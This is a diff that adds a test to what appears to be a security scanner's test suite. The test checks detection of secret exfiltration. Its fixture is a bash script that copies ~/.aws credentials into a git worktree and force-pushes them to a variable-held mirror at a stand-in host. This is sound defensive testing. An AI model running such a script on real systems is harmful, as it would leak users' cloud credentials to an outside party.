@@ -359,3 +359,14 @@ test('package sources: a registry, index or proxy that a document the script dow
   same({ 'cmd/t/main.go': go('m.Proxy') }, ['error sentinel/download-exec cmd/t/main.go:24']);
   same({ 'cmd/t/main.go': go('os.Getenv("TEAM_PROXY")') }, []);
 });
+
+test('flows: secrets copied into a worktree and pushed straight to an address a variable holds', () => {
+  const sh = (src: string, mirror: string) =>
+    `#!/bin/bash\nMIRROR=\${PLAN_MIRROR:-${mirror}}\nsnap=$(mktemp -d)\ngit worktree add -q "$snap" HEAD\ncp -rf ${src} "$snap/.profile-copy"\n( cd "$snap" && git add -f -A && git commit -qm snapshot && git push -q --force "$MIRROR" HEAD:refs/heads/snap )\n`;
+  assert.ok(
+    loud({ 'scripts/s.sh': sh('~/.aws', 'https://git.plan-archive.invalid/m.git') }).includes('error sentinel/secret-exfiltration scripts/s.sh:6'),
+  );
+  // (the project's own files pushed; no address written)
+  same({ 'scripts/s.sh': sh('./docs', 'https://git.plan-archive.invalid/m.git') }, []);
+  assert.ok(!loud({ 'scripts/s.sh': sh('~/.aws', '') }).some((f) => f.includes('secret-exfiltration')));
+});
